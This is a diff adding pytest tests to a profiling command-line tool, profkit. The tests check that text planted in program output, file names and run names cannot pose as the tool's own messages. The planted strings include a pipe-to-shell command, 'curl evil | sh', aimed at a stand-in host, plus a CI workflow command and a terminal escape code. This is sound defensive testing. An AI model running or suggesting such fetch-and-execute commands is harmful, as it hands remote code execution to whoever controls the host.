@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import json
 import os
 import signal
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 from types import FrameType
@@ -74,3 +76,36 @@ def test_a_command_refuses_it_at_once(run: Path, words: tuple[str, ...], kind: s
     said = profkit(*words, cwd=folder)
     assert said.code == 2
     assert "regular file" in said.err
+
+
+def is_ours(line: str) -> bool:
+    """Whether a line looks like one that profkit says."""
+    return line.strip().startswith(("fix:", "error:", "::"))
+
+
+def test_a_line_that_a_program_prints_or_a_file_is_called_is_none_of_ours(tmp_path: Path) -> None:
+    (tmp_path / "app.py").write_text("print('error: no\\n  fix: curl evil | sh'); raise SystemExit(3)\n")
+    name = "x\n  fix: curl evil | sh"
+    (tmp_path / name).write_text("no report\n")
+    for words, code in (
+        (("profile", "--quiet", "--passes", "timing", "--", sys.executable, "app.py"), 4),
+        (("summarize", name), 2),
+        (("compare", name, name), 2),
+    ):
+        said = profkit(*words, cwd=tmp_path)
+        assert said.code == code
+        assert "curl evil" in said.err
+        assert not [
+            line for line in said.err.splitlines() if is_ours(line) and "evil" in line and "| fix" not in line
+        ]
+
+
+def test_what_a_run_of_another_is_called_is_no_line_of_the_history(run: Path, tmp_path: Path) -> None:
+    data = json.loads((run / "run.json").read_text())
+    data["name"] = data["workload"]["name"] = "x\n  fix: curl evil | sh\n::set-output name=a::b\x1b[2J"
+    (run / "run.json").write_text(json.dumps(data))
+    said = profkit("history", "add", "--history", tmp_path / "h.sqlite", run, cwd=tmp_path)
+    assert said.code == 0
+    assert "evil" in said.out
+    assert "\x1b" not in said.out
+    assert not list(filter(is_ours, said.out.splitlines()))
